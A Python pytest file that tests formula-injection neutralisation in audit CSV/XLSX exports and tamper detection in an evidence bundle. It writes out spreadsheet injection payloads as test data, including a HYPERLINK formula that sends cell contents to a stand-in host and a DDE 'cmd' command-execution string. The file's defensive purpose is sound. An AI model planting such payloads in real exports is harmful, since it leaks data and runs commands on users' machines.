"""Safe tables in the audit exports (issue 14, defects 8 and 10): formula-like text is
neutralised in every CSV and XLSX table, the evidence bundle still verifies (its verifier reads
the cells back as stored) and every event carries its actor's name beside the id."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest

from commons.audit import bundle
from commons.audit.event_lines import write_csv, write_jsonl
from commons.audit.operations import append_event, verify_chain
from commons.audit.queries import Filters
from commons.extensions import db
from commons.tables import restore
from tests.workflows.scenario import Cast, proposal_in

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NAME = "@SUM(1+1) Mallory"
# Hashed text of events, each starting as a spreadsheet formula would, and one that really
# starts with a quote before "=" (it must read back with its quote).
TRIGGERS = [
    "=cmd|' /C calc'!A0",
    "+note",
    "-note",
    "@note",
    "\tnote",
    "\rnote",
    "'=quoted",
    "''+twice",
]


@pytest.fixture
def hostile(app):
    cast = Cast()
    pact = proposal_in("co_design", cast)
    pact.title = TITLE
    cast.officer.full_name = NAME
    db.session.commit()
    for i, trigger in enumerate(TRIGGERS):
        append_event(
            trigger,
            actor=cast.officer if i % 2 else None,
            actor_role="-officer" if i % 2 else None,
            proposal=pact,
            from_state="=A1" if i == 0 else None,
            to_state="+A2" if i == 1 else None,
            payload={"title": TITLE, "n": -3},
        )
    db.session.commit()
    return cast, pact


def _export(runner, tmp_path, fmt) -> Path:
    out = tmp_path / f"export.{fmt}"
    result = runner.invoke(args=["audit", "export", "--format", fmt, "-o", str(out)])
    assert result.exit_code == 0, result.output
    return out


def _csv(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def _hostile_events(rows: list[dict]) -> list[dict]:
    return [r for r in rows if restore(r["trigger"]) in TRIGGERS]


def _assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, value in row.items():
            assert value[:1] not in ("=", "+", "@", "\t", "\r"), (column, value)
            if value.startswith("-"):  # only a number may start with a minus
                float(value)


def test_events_csv_neutralises_text_and_names_the_actors(app, hostile, monkeypatch):
    from commons.audit import pgfast

    cast, pact = hostile
    copies = []
    copy_blocks = pgfast.copy_blocks
    monkeypatch.setattr(
        pgfast, "copy_blocks", lambda *a, **kw: copies.append(a[0]) or copy_blocks(*a, **kw)
    )
    out = io.BytesIO()
    write_csv(out, Filters())
    # On PostgreSQL the server wrote the lines (COPY), neutralising in SQL.
    assert len(copies) == (1 if db.engine.dialect.name == "postgresql" else 0)
    rows = _csv(out.getvalue())
    assert list(rows[0]) == bundle.EVENT_COLUMNS
    assert list(rows[0]).index("actor_name") == list(rows[0]).index("actor_id") + 1
    _assert_no_formula(rows)
    events = _hostile_events(rows)
    assert [e["trigger"] for e in events] == ["'" + t for t in TRIGGERS]
    assert [restore(e["trigger"]) for e in events] == TRIGGERS
    assert events[0]["from_state"] == "'=A1" and events[1]["to_state"] == "'+A2"
    assert events[1]["actor_role"] == "'-officer"
    assert [e["actor_name"] for e in events] == [
        "system" if i % 2 == 0 else "'" + NAME for i in range(len(TRIGGERS))
    ]
    assert events[1]["actor_id"] == str(cast.officer.id)
    assert json.loads(events[0]["payload"]) == {"title": TITLE, "n": -3}
    assert verify_chain().ok


def test_jsonl_keeps_text_as_stored_with_the_actor_name(app, hostile):
    cast, _pact = hostile
    out = io.BytesIO()
    write_jsonl(out, Filters())
    objects = [json.loads(line) for line in out.getvalue().splitlines()]
    events = [o for o in objects if o["trigger"] in TRIGGERS]
    assert [o["trigger"] for o in events] == TRIGGERS  # JSON is not a table
    assert [o["actor_name"] for o in events] == [
        "system" if i % 2 == 0 else NAME for i in range(len(TRIGGERS))
    ]
    assert all(list(o) == sorted(bundle.EVENT_COLUMNS) for o in objects)


def test_xlsx_writes_formula_like_text_as_text(app, runner, hostile, tmp_path):
    from openpyxl import load_workbook

    out = _export(runner, tmp_path, "xlsx")
    with zipfile.ZipFile(out) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in sheets)
    wb = load_workbook(out)
    pacts = wb["pacts"]
    header = [c.value for c in pacts[1]]
    titles = [row[header.index("title")] for row in pacts.iter_rows(min_row=2)]
    title = next(c for c in titles if c.value == TITLE)
    assert title.data_type == "s" and title.quotePrefix
    events = wb["events"]
    header = [c.value for c in events[1]]
    assert header == bundle.EVENT_COLUMNS
    rows = [dict(zip(header, row, strict=True)) for row in events.iter_rows(min_row=2)]
    hostile_rows = [r for r in rows if r["trigger"].value in TRIGGERS]
    assert [r["trigger"].value for r in hostile_rows] == TRIGGERS
    for row in hostile_rows:
        assert row["trigger"].data_type == "s" and row["trigger"].quotePrefix
    assert {r["actor_name"].value for r in hostile_rows} == {"system", NAME}
    assert next(r for r in hostile_rows if r["actor_name"].value == NAME)["actor_name"].quotePrefix


def _bundle_tables(path: Path) -> dict[str, list[dict]]:
    with zipfile.ZipFile(path) as zf:
        return {n: _csv(zf.read(n)) for n in zf.namelist() if n.endswith(".csv")}


def test_bundle_with_hostile_cells_verifies(app, runner, hostile, tmp_path):
    cast, pact = hostile
    out = _export(runner, tmp_path, "zip")
    report = bundle.verify(out)
    assert report.ok, report.message
    tables = _bundle_tables(out)
    for rows in tables.values():
        _assert_no_formula(rows)
    (row,) = [r for r in tables["pacts.csv"] if r["id"] == str(pact.id)]
    assert row["title"] == "'" + TITLE
    events = _hostile_events(tables["events.csv"])
    assert [e["trigger"] for e in events] == ["'" + t for t in TRIGGERS]
    assert {e["actor_name"] for e in events} == {"system", "'" + NAME}
    # The bundle's events.csv is the events export's rows (up to the head it records).
    flat = io.BytesIO()
    write_csv(flat, Filters())
    assert _csv(flat.getvalue())[: len(tables["events.csv"])] == tables["events.csv"]


def _rewrite_events(src: Path, dst: Path, change) -> None:
    """A copy of the bundle with events.csv changed and the manifest made to match it, as a
    careful forger would."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        events = change(zin.read("events.csv"))
        manifest = json.loads(zin.read("manifest.json"))
        manifest["files"]["events.csv"] = {
            "sha256": hashlib.sha256(events).hexdigest(),
            "size": len(events),
        }
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "events.csv":
                data = events
            elif info.filename == "manifest.json":
                data = bundle.manifest_bytes(manifest)
            zout.writestr(info.filename, data)


@pytest.mark.parametrize(
    ("written", "forged", "says"),
    [
        # One quote fewer: the text that really started with a quote loses it.
        (b"''=quoted", b"'=quoted", "does not match its hash"),
        # The quote taken away: the text hashes the same, but a spreadsheet would run it.
        (b"'=cmd|", b"=cmd|", "lacks the '"),
    ],
)
def test_altering_a_hostile_cell_is_still_detected(
    app, runner, hostile, tmp_path, written, forged, says
):
    out = _export(runner, tmp_path, "zip")
    altered = tmp_path / "forged.zip"
    _rewrite_events(out, altered, lambda data: data.replace(written, forged, 1))
    report = bundle.verify(altered)
    assert not report.ok and says in report.message, report.message
    assert "events.csv line" in report.message


def test_a_bundle_made_before_actor_names_is_read_as_written(app, runner, hostile, tmp_path):
    """A bundle of the earlier format (no actor_name, cells not neutralised) still verifies."""
    out = _export(runner, tmp_path, "zip")
    legacy = tmp_path / "legacy.zip"
    with zipfile.ZipFile(out) as zin, zipfile.ZipFile(legacy, "w", zipfile.ZIP_DEFLATED) as zout:
        manifest = json.loads(zin.read("manifest.json"))
        entries = {}
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith(".csv"):
                rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
                drop = rows[0].index("actor_name") if "actor_name" in rows[0] else None
                buffer = io.StringIO()
                writer = bundle.csv_writer(buffer)
                for i, row in enumerate(rows):
                    cells = [c if i == 0 else restore(c) for c in row]
                    writer.writerow([c for j, c in enumerate(cells) if j != drop])
                data = buffer.getvalue().encode()
                digest = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
                manifest["files"][info.filename] = digest
            entries[info.filename] = data
        entries["manifest.json"] = bundle.manifest_bytes(manifest)
        for name, data in entries.items():
            zout.writestr(name, data)
    with zipfile.ZipFile(legacy) as zf:
        header = zf.read("events.csv").split(b"\r\n", 1)[0].decode().split(",")
    assert header == bundle.LEGACY_EVENT_COLUMNS
    report = bundle.verify(legacy)
    assert report.ok, report.message
